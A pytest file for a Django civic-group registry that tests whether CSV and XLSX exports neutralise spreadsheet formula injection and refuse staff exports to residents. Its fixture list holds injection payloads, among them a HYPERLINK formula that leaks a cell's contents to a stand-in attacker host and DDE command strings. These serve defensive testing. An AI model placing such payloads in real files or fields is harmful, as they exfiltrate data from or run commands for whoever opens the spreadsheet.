"""Downloads cannot be turned into spreadsheet formulas by what a group types."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from django.test import Client
from openpyxl import load_workbook

from kyodo.accounts.models import User
from kyodo.core.exports import safe_cell
from kyodo.registry.models import PUBLISHABLE_ITEMS
from tests import factories

pytestmark = pytest.mark.django_db

NASTY = [
    '=HYPERLINK("https://evil.example/?d="&A1,"詳しくはこちら")',
    "+81-467-00-0000",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def nasty_groups(db: None) -> None:
    for i, text in enumerate(NASTY):
        factories.CivicGroupFactory(
            registered=True,
            name=text,
            name_kana=f"あ{i}",
            phone=text[:30],
            activities=text,
            public_items=[key for key, _label in PUBLISHABLE_ITEMS],
        )


def _dangerous(value: object) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # BOM, so Excel in Japan reads UTF-8
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def test_it_neutralises_formula_cells() -> None:
    for text in NASTY:
        assert not _dangerous(safe_cell(text)), text
        assert str(safe_cell(text)).endswith(text)  # neutralised, not altered
    assert safe_cell("普通の団体") == "普通の団体"
    assert safe_cell(-5) == -5  # numbers stay numbers
    assert safe_cell(None) == ""


def test_it_neutralises_formulas_in_the_public_csv(client: Client, nasty_groups: None) -> None:
    response = client.get("/groups/export.csv")
    cells = _csv_cells(response.content)
    for text in NASTY:
        assert any(text[1:] in c for c in cells), text
    assert not [c for c in cells if _dangerous(c)]


def test_it_neutralises_formulas_in_the_staff_csv(
    as_user: Callable[[User], Client], center_staff: User, nasty_groups: None
) -> None:
    response = as_user(center_staff).get("/staff/registry/", {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    cells = _csv_cells(response.content)
    assert not [c for c in cells if _dangerous(c)]
    assert sum(1 for c in cells if "HYPERLINK" in c) >= 2


def test_it_neutralises_formulas_in_the_staff_xlsx(
    as_user: Callable[[User], Client], center_staff: User, nasty_groups: None
) -> None:
    response = as_user(center_staff).get("/staff/registry/", {"export": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _dangerous(c.value)]
    assert sum(1 for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value) >= 2


def test_it_refuses_the_staff_exports_to_residents(
    as_user: Callable[[User], Client], resident: User, nasty_groups: None
) -> None:
    for fmt in ("csv", "xlsx"):
        response = as_user(resident).get("/staff/registry/", {"export": fmt})
        assert response.status_code == 403
